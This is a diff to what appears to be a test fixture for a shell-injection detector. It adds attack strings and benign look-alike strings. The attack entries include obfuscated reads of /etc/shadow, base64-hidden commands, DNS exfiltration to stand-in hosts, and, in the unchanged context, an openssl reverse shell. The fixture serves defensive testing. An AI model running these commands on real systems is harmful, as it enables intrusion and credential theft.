@@ -217,6 +217,13 @@ const ATTACKS: Readonly<Record<string, readonly string[]>> = {
     'nslookup `whoami`.$HOST.example',
     'wget http://$(cat /flag).c.example/',
   ],
+  'words that nobody reads': [
+    'cat $(xxd -r -p <<< 2f6574632f736861646f77)',
+    'cat $(echo . | tr "!-0" "1-9")etc',
+    'a; $(echo aWQgLWEKaWQgLWE= | base64 -d)',
+    'x;nslookup $(ls | base64).{host}',
+    '<@U21|id',
+  ],
   'of two parts': ['stock.sh & echo harbour & 12', 'stock.pl 4 & echo harbour & 1', '`/usr/bin/id`'],
   'a shell over a pipe': [
     'mkfifo /tmp/a; bash -i < /tmp/a 2>&1 | openssl s_client -quiet -connect 192.0.2.1:9 > /tmp/a',
@@ -224,6 +231,13 @@ const ATTACKS: Readonly<Record<string, readonly string[]>> = {
 };
 
 const HONEST: Readonly<Record<string, readonly string[]>> = {
+  'links of a chat': [
+    '<@U21|cal> has joined',
+    '<#C1|id>, please',
+    '<https://tides.example/a|who> asks',
+    '<!subteam^S1|ls>',
+  ],
+  'what a script decodes': ['PASSWORD=$(echo "$SECRET" | base64 -d)'],
   'names of hosts and files': ['https://$(hostname).tides.example/', 'cp a $(date +%F).tides.example.log'],
   'a program with colours': ['<pre>$(<span class="k">document</span>).ready()</pre>'],
   'a firm and its address': ['Smith & Sons & 12'],
